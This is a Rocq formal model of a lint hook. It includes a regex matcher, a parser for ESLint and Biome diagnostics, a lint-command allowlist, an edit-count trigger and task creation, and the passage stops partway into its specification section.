(** * hook-checklint: the lint-output parser, the command gatekeeper and the
      edit-count trigger of [src/hook.ts], embedded in Rocq.

    Strings are JavaScript strings restricted to code units below 256
    (one [ascii] per UTF-16 code unit); numbers are integers, with [None]
    for NaN where the source can produce it. The three regular expressions
    of [parseLintOutput] and the one of [isValidRepoPattern] are values of
    a small regex syntax, run by a backtracking matcher that tries the
    alternatives in the order ECMAScript does. *)

From Stdlib Require Import Bool Arith List ZArith NArith Lia.
From Stdlib Require Import Strings.Ascii Strings.String Numbers.DecimalString.
Import ListNotations.

Local Open Scope list_scope.
Local Open Scope string_scope.

(* ===================================================================== *)
(** ** JavaScript string primitives *)
(* ===================================================================== *)

Module JS.

Definition code (c : ascii) : N := N_of_ascii c.

Definition inRange (lo hi : N) (c : ascii) : bool :=
  (N.leb lo (code c) && N.leb (code c) hi)%bool.

Definition isUpper (c : ascii) : bool := inRange 65 90 c.
Definition isLower (c : ascii) : bool := inRange 97 122 c.
Definition isDigit (c : ascii) : bool := inRange 48 57 c.

(** [\w]: ASCII letters, digits and underscore. *)
Definition isWord (c : ascii) : bool :=
  (isUpper c || isLower c || isDigit c || N.eqb (code c) 95)%bool.

(** Line terminators below 256: LF and CR. *)
Definition isLineTerminator (c : ascii) : bool :=
  (N.eqb (code c) 10 || N.eqb (code c) 13)%bool.

(** [\s] and the characters [trim] strips, below 256: TAB, LF, VT, FF, CR,
    SPACE and NBSP. *)
Definition isSpace (c : ascii) : bool :=
  (inRange 9 13 c || N.eqb (code c) 32 || N.eqb (code c) 160)%bool.

(** [.] without the [s] flag. *)
Definition isDot (c : ascii) : bool := negb (isLineTerminator c).

(** Character case mapping of [String.prototype.toLowerCase] below 256:
    A-Z and the Latin-1 capitals 0xC0-0xDE (but the multiplication sign
    0xD7) move up by 32. *)
Definition lowerChar (c : ascii) : ascii :=
  if (isUpper c || (inRange 192 222 c && negb (N.eqb (code c) 215)))%bool
  then ascii_of_N (code c + 32) else c.

(** Canonicalize of a case-insensitive regex without the [u] flag: the
    upper-case mapping, kept only when it stays on the same side of 128.
    Below 256 that moves a-z to A-Z and 0xE0-0xFE (but the division sign
    0xF7) down by 32. *)
Definition canonChar (c : ascii) : ascii :=
  if (isLower c || (inRange 224 254 c && negb (N.eqb (code c) 247)))%bool
  then ascii_of_N (code c - 32) else c.

Fixpoint toLowerCase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lowerChar c) (toLowerCase s')
  end.

(** Every character of [s] is in the class [p]. *)
Fixpoint allChars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => (p c && allChars p s')%bool
  end.

(** [s.startsWith(p)] *)
Definition startsWith (s p : string) : bool := String.prefix p s.

Fixpoint drop (n : nat) (s : string) : string :=
  match n, s with
  | O, _ => s
  | S n', String _ s' => drop n' s'
  | S _, EmptyString => EmptyString
  end.

(** [s.endsWith(p)] *)
Definition endsWith (s p : string) : bool :=
  (Nat.leb (String.length p) (String.length s)
   && String.eqb (drop (String.length s - String.length p) s) p)%bool.

(** [s.includes(p)] *)
Fixpoint includes (s p : string) : bool :=
  (String.prefix p s ||
   match s with
   | EmptyString => false
   | String _ s' => includes s' p
   end)%bool.

(** [s.split(sep)] for a one-character separator: never the empty list. *)
Fixpoint split (sep : ascii) (s : string) : list string :=
  match s with
  | EmptyString => [EmptyString]
  | String c s' =>
      if Ascii.eqb c sep then EmptyString :: split sep s'
      else match split sep s' with
           | h :: t => String c h :: t
           | [] => [String c EmptyString]
           end
  end.

Fixpoint trimStart (s : string) : string :=
  match s with
  | String c s' => if isSpace c then trimStart s' else s
  | EmptyString => EmptyString
  end.

(** Drops trailing white space: the result of the tail, and the head kept
    unless it is white space followed by nothing. *)
Fixpoint trimEnd (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match trimEnd s' with
      | EmptyString => if isSpace c then EmptyString else String c EmptyString
      | t => String c t
      end
  end.

(** [s.trim()] *)
Definition trim (s : string) : string := trimEnd (trimStart s).

(** Truthiness of a string: the empty string is falsy. *)
Definition truthy (s : string) : bool := negb (String.eqb s EmptyString).

(** [a || b] on values that are a string or undefined. *)
Definition orElse (a b : option string) : option string :=
  match a with
  | Some s => if truthy s then Some s else b
  | None => b
  end.

(** [a || d] where [d] is a string. *)
Definition orStr (a : option string) (d : string) : string :=
  match a with
  | Some s => if truthy s then s else d
  | None => d
  end.

(** Value of a run of decimal digits, most significant first. *)
Fixpoint digitsValue (acc : N) (s : string) : N :=
  match s with
  | String c s' => if isDigit c then digitsValue (acc * 10 + (code c - 48)) s' else acc
  | EmptyString => acc
  end.

(** [parseInt(s, 10)]: leading white space skipped, an optional sign, then the
    longest run of digits; [None] (NaN) when there is no digit. Values are
    exact integers (the rounding of doubles above 2^53 is not modelled). *)
Definition parseInt (s : string) : option Z :=
  let t := trimStart s in
  let '(neg, u) :=
    match t with
    | String "-" r => (true, r)
    | String "+" r => (false, r)
    | _ => (false, t)
    end in
  match u with
  | String c _ =>
      if isDigit c
      then Some (if neg then (- Z.of_N (digitsValue 0 u))%Z else Z.of_N (digitsValue 0 u))
      else None
  | EmptyString => None
  end.

(** Decimal text of a number; NaN prints as ["NaN"]. *)
Definition showZ (z : Z) : string :=
  NilZero.string_of_int (Z.to_int z).

Definition showNum (n : option Z) : string :=
  match n with
  | Some z => showZ z
  | None => "NaN"
  end.

End JS.

(* ===================================================================== *)
(** ** Regular expressions with capture groups *)
(* ===================================================================== *)

Module Regex.

(** The fragment the source uses. Quantifiers range over one character
    class, so every iteration consumes a character. All patterns of the
    source start with [^]: a match is only tried at position 0. *)
Inductive regex : Type :=
| RChar (p : ascii -> bool)                 (* one character of a class *)
| RStar (greedy : bool) (p : ascii -> bool) (* c* and c*? *)
| RPlus (greedy : bool) (p : ascii -> bool) (* c+ and c+? *)
| RSeq (r1 r2 : regex)
| RAlt (r1 r2 : regex)
| ROpt (r : regex)                          (* (?: r )? *)
| RGroup (n : nat) (r : regex)              (* the n-th ( r ) *)
| REnd.                                     (* $ *)

(** Capture state: the latest binding of a group comes first. *)
Definition captures := list (nat * string).

Fixpoint capGet (n : nat) (c : captures) : option string :=
  match c with
  | [] => None
  | (i, w) :: c' => if Nat.eqb i n then Some w else capGet n c'
  end.

Definition capSet (n : nat) (w : string) (c : captures) : captures := (n, w) :: c.

(** The text between two positions, given the remainders at each. *)
Definition consumed (s s' : string) : string :=
  String.substring 0 (String.length s - String.length s') s.

Section Matcher.
Variable R : Type.

(** Lazy star: the continuation first, one more character on failure. *)
Fixpoint starL (p : ascii -> bool) (k : string -> option R) (s : string) : option R :=
  match k s with
  | Some r => Some r
  | None =>
      match s with
      | String c s' => if p c then starL p k s' else None
      | EmptyString => None
      end
  end.

(** Greedy star: one more character first, the continuation on failure. *)
Fixpoint starG (p : ascii -> bool) (k : string -> option R) (s : string) : option R :=
  match s with
  | String c s' =>
      if p c
      then match starG p k s' with
           | Some r => Some r
           | None => k s
           end
      else k s
  | EmptyString => k s
  end.

Definition star (greedy : bool) (p : ascii -> bool) (k : string -> option R) (s : string)
  : option R :=
  if greedy then starG p k s else starL p k s.

Fixpoint run (r : regex) (s : string) (caps : captures)
         (k : string -> captures -> option R) : option R :=
  match r with
  | RChar p =>
      match s with
      | String c s' => if p c then k s' caps else None
      | EmptyString => None
      end
  | RStar g p => star g p (fun s' => k s' caps) s
  | RPlus g p =>
      match s with
      | String c s' => if p c then star g p (fun s' => k s' caps) s' else None
      | EmptyString => None
      end
  | RSeq r1 r2 => run r1 s caps (fun s1 c1 => run r2 s1 c1 k)
  | RAlt r1 r2 =>
      match run r1 s caps k with
      | Some x => Some x
      | None => run r2 s caps k
      end
  | ROpt r1 =>
      match run r1 s caps k with
      | Some x => Some x
      | None => k s caps
      end
  | RGroup n r1 => run r1 s caps (fun s' c' => k s' (capSet n (consumed s s') c'))
  | REnd =>
      match s with
      | EmptyString => k s caps
      | String _ _ => None
      end
  end.
End Matcher.

Arguments starL {R} p k s.
Arguments starG {R} p k s.
Arguments star {R} greedy p k s.
Arguments run {R} r s caps k.

(** [s.match(re)] for an anchored pattern without the [g] flag: the capture
    state of the first successful path, or [None] (null). *)
Definition exec (r : regex) (s : string) : option captures :=
  run r s [] (fun _ c => Some c).

(** A literal character, under the [i] flag or not. *)
Definition chr (c : ascii) : regex := RChar (Ascii.eqb c).
Definition chrI (c : ascii) : regex :=
  RChar (fun x => Ascii.eqb (JS.canonChar x) (JS.canonChar c)).

(** A literal word under the [i] flag: [c] then the rest. *)
Fixpoint litI (c : ascii) (s : string) : regex :=
  match s with
  | EmptyString => chrI c
  | String c' s' => RSeq (chrI c) (litI c' s')
  end.

(** What a pattern denotes, apart from the order in which the matcher
    tries things: [matches r w rest c0 c1] says that [r] can consume [w]
    when [rest] follows, taking the capture state from [c0] to [c1]. *)
Inductive matches : regex -> string -> string -> captures -> captures -> Prop :=
| MChar p c rest c0 :
    p c = true -> matches (RChar p) (String c EmptyString) rest c0 c0
| MStar g p w rest c0 :
    JS.allChars p w = true -> matches (RStar g p) w rest c0 c0
| MPlus g p c w rest c0 :
    p c = true -> JS.allChars p w = true -> matches (RPlus g p) (String c w) rest c0 c0
| MSeq r1 r2 w1 w2 rest c0 c1 c2 :
    matches r1 w1 (w2 ++ rest) c0 c1 -> matches r2 w2 rest c1 c2 ->
    matches (RSeq r1 r2) (w1 ++ w2) rest c0 c2
| MAltL r1 r2 w rest c0 c1 :
    matches r1 w rest c0 c1 -> matches (RAlt r1 r2) w rest c0 c1
| MAltR r1 r2 w rest c0 c1 :
    matches r2 w rest c0 c1 -> matches (RAlt r1 r2) w rest c0 c1
| MOptSome r w rest c0 c1 :
    matches r w rest c0 c1 -> matches (ROpt r) w rest c0 c1
| MOptNone r rest c0 :
    matches (ROpt r) EmptyString rest c0 c0
| MGroup n r w rest c0 c1 :
    matches r w rest c0 c1 -> matches (RGroup n r) w rest c0 (capSet n w c1)
| MEnd c0 :
    matches REnd EmptyString EmptyString c0 c0.

(** [s] is in the language of the anchored pattern [r]. *)
Definition Accepts (r : regex) (s : string) : Prop :=
  exists w rest m, s = w ++ rest /\ matches r w rest [] m.

(** The groups a pattern can bind. *)
Fixpoint groupsOf (r : regex) : list nat :=
  match r with
  | RSeq r1 r2 | RAlt r1 r2 => (groupsOf r1 ++ groupsOf r2)%list
  | ROpt r1 => groupsOf r1
  | RGroup n r1 => n :: groupsOf r1
  | _ => []
  end.

Declare Scope regex_scope.
Delimit Scope regex_scope with re.
Notation "a ;; b" := (RSeq a b) (at level 61, right associativity) : regex_scope.

End Regex.

(* ===================================================================== *)
(** ** The hook: data model *)
(* ===================================================================== *)

Module Hook.
Import Regex.

Record CheckLintConfig := {
  taskListId : option string;
  lintCommand : option string;
  editThreshold : option Z;
  keywords : option (list string);
  enabled : option bool;
  createTasks : option bool
}.

(** [tool_input] is read at two keys only; a key that is absent reads as
    [None] (undefined). *)
Record HookInput := {
  session_id : string;
  transcript_path : string;
  cwd : string;
  tool_name : string;
  tool_input : string -> option string
}.

(** [line] and [column] are what [parseInt] returned: [None] is NaN.
    [severity] is the string the parser stored. *)
Record LintError := {
  file : string;
  line : option Z;
  column : option Z;
  message : string;
  rule : option string;
  severity : string
}.

Record SessionState := {
  editCount : Z;
  editedFiles : list string;
  lastLintRun : Z
}.

Definition EDIT_TOOLS : list string := ["Edit"; "Write"; "NotebookEdit"].

Definition ALLOWED_LINT_COMMANDS : list string :=
  [ "bun lint";
    "bun lint:check";
    "bun eslint";
    "bun biome check";
    "bunx @biomejs/biome check .";
    "bunx eslint .";
    "npm run lint";
    "npm run lint:check";
    "npx eslint .";
    "npx @biomejs/biome check ." ].

(** [Array.prototype.includes] on strings. *)
Definition arrIncludes (l : list string) (x : string) : bool :=
  existsb (String.eqb x) l.

(** [id.replace(/[^a-zA-Z0-9_-]/g, '-').slice(0, 100) || 'default'] *)
Fixpoint replaceUnsafe (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      String (if (JS.isWord c || Ascii.eqb c "-")%bool then c else "-"%char)
             (replaceUnsafe s')
  end.

Definition sanitizeId (id : string) : string :=
  if negb (JS.truthy id) then "default"
  else JS.orStr (Some (String.substring 0 100 (replaceUnsafe id))) "default".

Definition isValidLintCommand (cmd : string) : bool :=
  if negb (JS.truthy cmd) then false
  else existsb (fun allowed =>
                  (String.eqb cmd allowed || JS.startsWith cmd (allowed ++ " "))%bool)
               ALLOWED_LINT_COMMANDS.

(** [cwd.split("/").filter(Boolean).pop() || ""] *)
Definition dirNameOf (cwd : string) : string :=
  last (filter JS.truthy (JS.split "/" cwd)) "".

Definition isAsciiLetter (c : ascii) : bool := (JS.isUpper c || JS.isLower c)%bool.

(** [/^[a-z]+-[a-z0-9-]+$/i] *)
Definition repoRe : regex :=
  (RPlus true isAsciiLetter ;;
   chrI "-" ;;
   RPlus true (fun c => (isAsciiLetter c || JS.isDigit c || Ascii.eqb c "-")%bool) ;;
   REnd)%re.

Definition isValidRepoPattern (cwd : string) : bool :=
  match exec repoRe (dirNameOf cwd) with
  | Some _ => true
  | None => false
  end.

(** [getConfig]: the project settings' entry, else the global one, else the
    defaults. *)
Definition defaultConfig : CheckLintConfig :=
  {| taskListId := None; lintCommand := None; editThreshold := Some 3%Z;
     keywords := Some ["dev"]; enabled := Some true; createTasks := Some true |}.

Definition getConfig (projectEntry globalEntry : option CheckLintConfig) : CheckLintConfig :=
  match projectEntry with
  | Some c => c
  | None =>
      match globalEntry with
      | Some c => c
      | None => defaultConfig
      end
  end.

Definition freshState : SessionState :=
  {| editCount := 0; editedFiles := []; lastLintRun := 0 |}.

Definition stateFileName (sessionId : string) : string :=
  "checklint-" ++ sanitizeId sessionId ++ ".json".

(* ===================================================================== *)
(** ** The diagnostic parser *)
(* ===================================================================== *)

(** [/^(.+?):(\d+):(\d+):\s*(error|warning)\s+(.+?)(?:\s+\[(.+?)\])?$/i] *)
Definition eslintRe : regex :=
  (RGroup 1 (RPlus false JS.isDot) ;; chrI ":" ;;
   RGroup 2 (RPlus true JS.isDigit) ;; chrI ":" ;;
   RGroup 3 (RPlus true JS.isDigit) ;; chrI ":" ;;
   RStar true JS.isSpace ;;
   RGroup 4 (RAlt (litI "e" "rror") (litI "w" "arning")) ;;
   RPlus true JS.isSpace ;;
   RGroup 5 (RPlus false JS.isDot) ;;
   ROpt (RPlus true JS.isSpace ;; chrI "[" ;; RGroup 6 (RPlus false JS.isDot) ;; chrI "]") ;;
   REnd)%re.

(** [/^(.+?):(\d+):(\d+)\s+(\w+\/\w+)\s+(ERROR|WARNING|WARN)\s+(.+)$/i] *)
Definition biomeRe : regex :=
  (RGroup 1 (RPlus false JS.isDot) ;; chrI ":" ;;
   RGroup 2 (RPlus true JS.isDigit) ;; chrI ":" ;;
   RGroup 3 (RPlus true JS.isDigit) ;;
   RPlus true JS.isSpace ;;
   RGroup 4 (RPlus true JS.isWord ;; chrI "/" ;; RPlus true JS.isWord) ;;
   RPlus true JS.isSpace ;;
   RGroup 5 (RAlt (litI "E" "RROR") (RAlt (litI "W" "ARNING") (litI "W" "ARN"))) ;;
   RPlus true JS.isSpace ;;
   RGroup 6 (RPlus true JS.isDot) ;;
   REnd)%re.

(** [/^(.+?):(\d+):(\d+):\s*(.+)$/] *)
Definition genericRe : regex :=
  (RGroup 1 (RPlus false JS.isDot) ;; chr ":" ;;
   RGroup 2 (RPlus true JS.isDigit) ;; chr ":" ;;
   RGroup 3 (RPlus true JS.isDigit) ;; chr ":" ;;
   RStar true JS.isSpace ;;
   RGroup 4 (RPlus true JS.isDot) ;;
   REnd)%re.

(** [m[n]] of a match array, for a group that took part in the match. *)
Definition grp (n : nat) (c : captures) : string :=
  match capGet n c with
  | Some w => w
  | None => EmptyString
  end.

Definition eslintError (m : captures) : LintError :=
  {| file := grp 1 m;
     line := JS.parseInt (grp 2 m);
     column := JS.parseInt (grp 3 m);
     severity := JS.toLowerCase (grp 4 m);
     message := JS.trim (grp 5 m);
     rule := capGet 6 m |}.

(** [s.toUpperCase().startsWith("ERR")] on the text of group 5, which holds
    ASCII letters only. *)
Fixpoint toUpperCase (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (JS.canonChar c) (toUpperCase s')
  end.

Definition biomeError (m : captures) : LintError :=
  {| file := grp 1 m;
     line := JS.parseInt (grp 2 m);
     column := JS.parseInt (grp 3 m);
     rule := Some (grp 4 m);
     severity := if JS.startsWith (toUpperCase (grp 5 m)) "ERR" then "error" else "warning";
     message := JS.trim (grp 6 m) |}.

Definition genericError (ln : string) (m : captures) : LintError :=
  {| file := grp 1 m;
     line := JS.parseInt (grp 2 m);
     column := JS.parseInt (grp 3 m);
     severity := if JS.includes (JS.toLowerCase ln) "error" then "error" else "warning";
     message := JS.trim (grp 4 m);
     rule := None |}.

(** One iteration of the loop of [parseLintOutput]: [errors] is the array
    built so far, [push] appends at its end. *)
Definition parseStep (errors : list LintError) (ln : string) : list LintError :=
  match exec eslintRe ln with
  | Some m => (errors ++ [eslintError m])%list
  | None =>
      match exec biomeRe ln with
      | Some m => (errors ++ [biomeError m])%list
      | None =>
          match exec genericRe ln with
          | Some m =>
              if negb (JS.startsWith (grp 1 m) " ")
              then (errors ++ [genericError ln m])%list
              else errors
          | None => errors
          end
      end
  end.

Definition parseLintOutput (output : string) : list LintError :=
  fold_left parseStep (JS.split "010" output) [].

(* ===================================================================== *)
(** ** Tasks *)
(* ===================================================================== *)

Record TaskMeta := {
  source : string;
  metaFile : string;
  metaLine : option Z;
  metaColumn : option Z;
  metaRule : option string;
  metaSeverity : string
}.

Record Task := {
  taskId : string;
  subject : string;
  description : string;
  status : string;
  createdAt : string;
  metadata : TaskMeta
}.

Definition nl : string := String "010" EmptyString.

(** The task [createTask] writes; [stamp], [rnd] and [iso] are what
    [Date.now()], the random suffix and [toISOString()] gave. *)
Definition makeTask (stamp : Z) (rnd iso : string) (e : LintError) : Task :=
  let sev := if String.eqb (severity e) "error" then "MEDIUM" else "LOW" in
  let hasRule := JS.truthy (JS.orStr (rule e) "") in
  let ruleInfo := if hasRule then " (" ++ JS.orStr (rule e) "" ++ ")" else "" in
  {| taskId := "lint-" ++ JS.showZ stamp ++ "-" ++ rnd;
     subject := "BUG: " ++ sev ++ " - Fix lint " ++ severity e ++ " in " ++ file e
                ++ ":" ++ JS.showNum (line e);
     description :=
       "Fix lint " ++ severity e ++ " at " ++ file e ++ ":" ++ JS.showNum (line e)
       ++ ":" ++ JS.showNum (column e) ++ nl ++ nl
       ++ "**Error:** " ++ message e ++ ruleInfo ++ nl ++ nl
       ++ "**File:** " ++ file e ++ nl
       ++ "**Line:** " ++ JS.showNum (line e) ++ nl
       ++ "**Column:** " ++ JS.showNum (column e)
       ++ (if hasRule then nl ++ "**Rule:** " ++ JS.orStr (rule e) "" else "")
       ++ nl ++ nl ++ "**Acceptance criteria:**" ++ nl
       ++ "- Lint error is fixed" ++ nl ++ "- No new lint errors introduced";
     status := "pending";
     createdAt := iso;
     metadata := {| source := "hook-checklint"; metaFile := file e;
                    metaLine := line e; metaColumn := column e;
                    metaRule := rule e; metaSeverity := severity e |} |}.

(* ===================================================================== *)
(** ** One invocation of the hook *)
(* ===================================================================== *)

(** What [execSync] met: the exit status of the command ([None] when it was
    killed, as on the 60 s timeout) and what it wrote. *)
Record ProcResult := {
  exitStatus : option Z;
  procStdout : string;
  procStderr : string
}.

(** Everything one invocation reads from outside. *)
Record World := {
  stdinJson : option HookInput;                     (* readStdinJson() *)
  projectEntry : string -> option CheckLintConfig;  (* checkLintConfig of <cwd>/.claude/settings.json *)
  globalEntry : option CheckLintConfig;             (* checkLintConfig of ~/.claude/settings.json *)
  sessionNameOf : string -> option string;          (* getSessionName(transcript_path) *)
  stateFiles : string -> option SessionState;       (* a readable state file, by name *)
  detectLintCommand : string -> option string;      (* detectLintCommand(cwd) *)
  spawn : string -> string -> ProcResult;           (* the child process, by cwd and command *)
  getProjectTaskList : string -> option string;     (* getProjectTaskList(cwd) *)
  clock : nat -> Z;                                 (* successive Date.now() *)
  randomSuffix : nat -> string;                     (* successive random suffixes *)
  isoTime : nat -> string                           (* successive toISOString() *)
}.

(** Everything one invocation leaves behind. *)
Record Outcome := {
  stdout : list string;                         (* console.log *)
  stderr : list string;                         (* console.error *)
  stateWrite : option (string * SessionState);  (* saveSessionState: file name and content *)
  taskWrites : list (string * Task);            (* createTask: task list and task *)
  executed : list string                        (* commands given to execSync *)
}.

Definition approveJson : string :=
  "{" ++ String "034" "decision" ++ String "034" ":" ++ String "034" "approve"
  ++ String "034" "}".

(** [approve()] on a path that wrote nothing. *)
Definition approveOnly : Outcome :=
  {| stdout := [approveJson]; stderr := []; stateWrite := None;
     taskWrites := []; executed := [] |}.

Definition getSessionState (w : World) (sessionId : string) : SessionState :=
  match stateFiles w (stateFileName sessionId) with
  | Some st => st
  | None => freshState
  end.

(** [runLint]: success is a return of [execSync], that is exit status 0. *)
Definition runLint (w : World) (dir command : string) : bool * string :=
  let p := spawn w dir command in
  match exitStatus p with
  | Some 0%Z => (true, procStdout p)
  | _ => (false, JS.orStr (Some (procStdout p)) "" ++ JS.orStr (Some (procStderr p)) "")
  end.

(** [Math.min(7, Math.max(3, config.editThreshold || 3))] *)
Definition threshold (config : CheckLintConfig) : Z :=
  let t := match editThreshold config with
           | Some 0%Z | None => 3%Z
           | Some n => n
           end in
  Z.min 7 (Z.max 3 t).

(** The predicate of [errors.filter] in [run]. *)
Definition isRelevant (edited : list string) (e : LintError) : bool :=
  existsb (fun f =>
             (JS.endsWith f (file e)
              || JS.endsWith (file e) (JS.orStr (Some (last (JS.split "/" f) "")) ""))%bool)
          edited.

(** The loop over [errorsToReport]: the [i]-th task takes the [i]-th reading
    of the clock, of the random source and of the date. *)
Fixpoint createTasks_loop (w : World) (listId : string) (i : nat) (es : list LintError)
  : list (string * Task) :=
  match es with
  | [] => []
  | e :: es' =>
      (listId, makeTask (clock w i) (randomSuffix w i) (isoTime w i) e)
        :: createTasks_loop w listId (S i) es'
  end.

Definition showNat (n : nat) : string := JS.showZ (Z.of_nat n).

Record LintEffects := {
  lintTasks : list (string * Task);
  lintLog : list string;
  lintExecuted : list string
}.

Definition noEffects : LintEffects :=
  {| lintTasks := []; lintLog := []; lintExecuted := [] |}.

(** The body of [if (state.editCount >= threshold)] up to the reset. *)
Definition lintStage (w : World) (config : CheckLintConfig) (dir : string)
           (edited : list string) : LintEffects :=
  match JS.orElse (lintCommand config) (detectLintCommand w dir) with
  | None => noEffects
  | Some cmd =>
      if negb (JS.truthy cmd && isValidLintCommand cmd) then noEffects
      else
        let '(success, output) := runLint w dir cmd in
        if success then {| lintTasks := []; lintLog := []; lintExecuted := [cmd] |}
        else
          let errors := parseLintOutput output in
          let relevantErrors := filter (isRelevant edited) errors in
          if negb (negb (match createTasks config with Some false => true | _ => false end)
                   && Nat.ltb 0 (List.length relevantErrors))
          then {| lintTasks := []; lintLog := []; lintExecuted := [cmd] |}
          else
            match JS.orElse (taskListId config) (getProjectTaskList w dir) with
            | None => {| lintTasks := []; lintLog := []; lintExecuted := [cmd] |}
            | Some listId =>
                if negb (JS.truthy listId)
                then {| lintTasks := []; lintLog := []; lintExecuted := [cmd] |}
                else
                  let errorsToReport := firstn 5 relevantErrors in
                  {| lintTasks := createTasks_loop w listId 0 errorsToReport;
                     lintLog :=
                       ("[hook-checklint] Created " ++ showNat (List.length errorsToReport)
                        ++ " task(s) for lint errors in " ++ String "034" listId
                        ++ String "034" EmptyString)
                       :: (if Nat.ltb 5 (List.length relevantErrors)
                           then ["[hook-checklint] ("
                                 ++ showNat (List.length relevantErrors - 5)
                                 ++ " more errors not reported)"]
                           else []);
                     lintExecuted := [cmd] |}
            end
  end.

(** The guard on keywords in [run]: [true] when the event goes on. *)
Definition keywordGuard (config : CheckLintConfig) (sessionName : option string) : bool :=
  let nameToCheck := JS.orStr (JS.orElse sessionName (taskListId config)) "" in
  let kws := match keywords config with Some k => k | None => ["dev"] end in
  let matchesKeyword :=
    existsb (fun keyword => JS.includes (JS.toLowerCase nameToCheck) (JS.toLowerCase keyword))
            kws in
  negb (Nat.ltb 0 (List.length kws) && JS.truthy nameToCheck && negb matchesKeyword).

(** [tool_input.file_path || tool_input.notebook_path], when truthy. *)
Definition editedPath (h : HookInput) : option string :=
  match JS.orElse (tool_input h "file_path") (tool_input h "notebook_path") with
  | Some f => if JS.truthy f then Some f else None
  | None => None
  end.

(** The part of [run] after the guards: count the edit, maybe lint, save. *)
Definition countEdit (w : World) (config : CheckLintConfig) (h : HookInput)
           (filePath : string) : Outcome :=
  let state := getSessionState w (session_id h) in
  let count1 := (editCount state + 1)%Z in
  let files1 := if arrIncludes (editedFiles state) filePath
                then editedFiles state
                else (editedFiles state ++ [filePath])%list in
  if Z.leb (threshold config) count1 then
    let fx := lintStage w config (cwd h) files1 in
    {| stdout := [approveJson];
       stderr := lintLog fx;
       stateWrite := Some (stateFileName (session_id h),
                           {| editCount := 0; editedFiles := files1;
                              lastLintRun := clock w (List.length (lintTasks fx)) |});
       taskWrites := lintTasks fx;
       executed := lintExecuted fx |}
  else
    {| stdout := [approveJson];
       stderr := [];
       stateWrite := Some (stateFileName (session_id h),
                           {| editCount := count1; editedFiles := files1;
                              lastLintRun := lastLintRun state |});
       taskWrites := [];
       executed := [] |}.

(** [getConfig(cwd)] and the session name [run] looks up. *)
Definition configFor (w : World) (h : HookInput) : CheckLintConfig :=
  getConfig (projectEntry w (cwd h)) (globalEntry w).

Definition sessionNameFor (w : World) (h : HookInput) : option string :=
  if JS.truthy (transcript_path h) then sessionNameOf w (transcript_path h) else None.

Definition run (w : World) : Outcome :=
  match stdinJson w with
  | None => approveOnly
  | Some h =>
      if negb (arrIncludes EDIT_TOOLS (tool_name h)) then approveOnly
      else if negb (isValidRepoPattern (cwd h)) then approveOnly
      else
        let config := configFor w h in
        if match enabled config with Some false => true | _ => false end then approveOnly
        else
          let sessionName := sessionNameFor w h in
          if negb (keywordGuard config sessionName) then approveOnly
          else
            match editedPath h with
            | None => approveOnly
            | Some filePath => countEdit w config h filePath
            end
  end.

(* ===================================================================== *)
(** ** What the hook reads from the project and the task directory *)
(* ===================================================================== *)

(** [package.json] as [detectLintCommand] sees it: absent, not readable as
    an object (the [catch] branch), or the truthiness of the four entries
    of [pkg.scripts || {}] it looks at. *)
Inductive PackageJson :=
| PkgMissing
| PkgUnreadable
| PkgScripts (hasLint hasLintCheck hasEslint hasBiome : bool).

(** The files [detectLintCommand] tests with [existsSync]. *)
Record ProjectFiles := {
  packageJson : PackageJson;
  biomeJson : bool;
  biomeJsonc : bool;
  eslintrcJson : bool;
  eslintrcJs : bool;
  eslintConfigJs : bool
}.

(** The part of [detectLintCommand] after the look at [package.json]. *)
Definition detectFromConfigFiles (p : ProjectFiles) : option string :=
  if (biomeJson p || biomeJsonc p)%bool then Some "bunx @biomejs/biome check ."
  else if (eslintrcJson p || eslintrcJs p || eslintConfigJs p)%bool then Some "bunx eslint ."
  else None.

(** [detectLintCommand(cwd)] on the files of [cwd]. *)
Definition detectLintCommandFrom (p : ProjectFiles) : option string :=
  match packageJson p with
  | PkgScripts hasLint hasLintCheck hasEslint hasBiome =>
      if hasLint then Some "bun lint"
      else if hasLintCheck then Some "bun lint:check"
      else if hasEslint then Some "bun eslint"
      else if hasBiome then Some "bun biome check"
      else detectFromConfigFiles p
  | PkgMissing | PkgUnreadable => detectFromConfigFiles p
  end.

(** [~/.claude/tasks] as [getProjectTaskList] sees it: absent, not readable
    (the [catch] branch), or the names of its sub-directories in the order
    [readdirSync] gives them. *)
Inductive TasksDir :=
| TasksMissing
| TasksUnreadable
| TaskLists (names : list string).

(** The predicate of the two [lists.find] calls, for the word [tag]. *)
Definition listMatches (dirName tag list : string) : bool :=
  (JS.startsWith (JS.toLowerCase list) (JS.toLowerCase dirName)
   && JS.includes (JS.toLowerCase list) tag)%bool.

(** [getProjectTaskList(cwd)] on the task directory. *)
Definition getProjectTaskListFrom (t : TasksDir) (dir : string) : option string :=
  match t with
  | TasksMissing | TasksUnreadable => None
  | TaskLists lists =>
      let dirName := dirNameOf dir in
      match find (listMatches dirName "bugfix") lists with
      | Some bugfixList =>
          if JS.truthy bugfixList then Some bugfixList
          else JS.orElse (find (listMatches dirName "dev") lists) None
      | None => JS.orElse (find (listMatches dirName "dev") lists) None
      end
  end.

End Hook.

(* ===================================================================== *)
(** ** Notions the properties are stated with *)
(* ===================================================================== *)

Module Spec.
Import JS Regex Hook.

(** [p] is a suffix of [s]. *)
Definition Suffix (p s : string) : Prop := exists u, s = u ++ p.

(** The part of a path after its last slash. *)
Definition lastSegment (f : string) : string := last (split "/" f) "".

(** The gatekeeper as the specification words it: an entry of the allowlist,
    or an entry, a space, and anything. *)
Definition AllowedBySpec (cmd : string) : Prop :=
  exists allowed,
    In allowed ALLOWED_LINT_COMMANDS
    /\ (cmd = allowed \/ exists rest, cmd = allowed ++ " " ++ rest).

(** The three dialects as languages. *)
Definition Common (ln : string) : Prop := Accepts eslintRe ln.
Definition Grouped (ln : string) : Prop := Accepts biomeRe ln.
Definition GenericShape (ln : string) : Prop := Accepts genericRe ln.
Definition Generic (ln : string) : Prop :=
  GenericShape ln /\ startsWith ln " " = false.

Definition WellFormed (ln : string) : Prop := Common ln \/ Grouped ln \/ Generic ln.


(** A non-empty run of decimal digits. *)
Definition Digits (l : string) : Prop := l <> "" /\ allChars isDigit l = true.





(** [m] is the capture state of some way to read [ln] by the pattern. *)
Definition ReadBy (r : regex) (ln : string) (m : captures) : Prop :=
  exists w rest, ln = w ++ rest /\ matches r w rest [] m.

(** [d] is the diagnostic of [ln], built by the first dialect that has it. *)
